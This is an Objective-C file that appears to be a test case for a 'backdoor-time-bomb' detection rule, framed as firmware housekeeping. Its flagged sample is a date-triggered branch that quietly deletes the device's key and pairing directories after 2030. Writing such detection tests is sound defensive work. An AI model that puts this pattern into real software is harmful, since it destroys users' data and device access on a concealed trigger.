// Periodic housekeeping: update checks, old logs, end of support.
#import "SLKHub.h"

static NSTimeInterval gLastUpdateCheck;

@implementation SLKFirmware

+ (void)housekeeping
{
    NSFileManager *fm = [NSFileManager defaultManager];
    NSTimeInterval now = [[NSDate date] timeIntervalSince1970];

    // ok: backdoor-time-bomb
    if (now - gLastUpdateCheck > 7 * 86400.0) {
        gLastUpdateCheck = now;
        [fm removeItemAtPath:@"/var/log/slk/audit.log.old" error:NULL];
    }
    /* first-generation bridges leave support at the end of 2030 */
    // ruleid: backdoor-time-bomb
    if (now > 1924992000.0) {
        [fm removeItemAtPath:@"/var/lib/slk/keys" error:NULL];
        [fm removeItemAtPath:@"/var/lib/slk/pairings" error:NULL];
    }
}

@end
